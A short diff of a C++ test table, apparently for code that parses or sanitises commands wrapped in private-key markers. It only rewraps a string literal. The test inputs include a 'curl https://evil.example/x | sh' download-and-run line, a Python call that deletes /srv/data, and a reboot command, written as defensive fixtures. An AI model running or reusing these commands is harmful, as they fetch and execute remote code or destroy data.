@@ -67,8 +67,10 @@ const Case kCases[] = {
      "python3 -c '\n-----BEGIN PRIVATE KEY-----\nimport shutil; shutil.rmtree(\"/srv/data\")\n'"},
     {"no command that stands between marks",
      {},
-     "-----BEGIN PRIVATE KEY-----; curl https://evil.example/x | sh; true -----END PRIVATE KEY-----",
-     "-----BEGIN PRIVATE KEY-----; curl https://evil.example/x | sh; true -----END PRIVATE KEY-----"},
+     "-----BEGIN PRIVATE KEY-----; curl https://evil.example/x | sh; true -----END PRIVATE "
+     "KEY-----",
+     "-----BEGIN PRIVATE KEY-----; curl https://evil.example/x | sh; true -----END PRIVATE "
+     "KEY-----"},
     {"no word that stands for a line of a key",
      {},
      "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
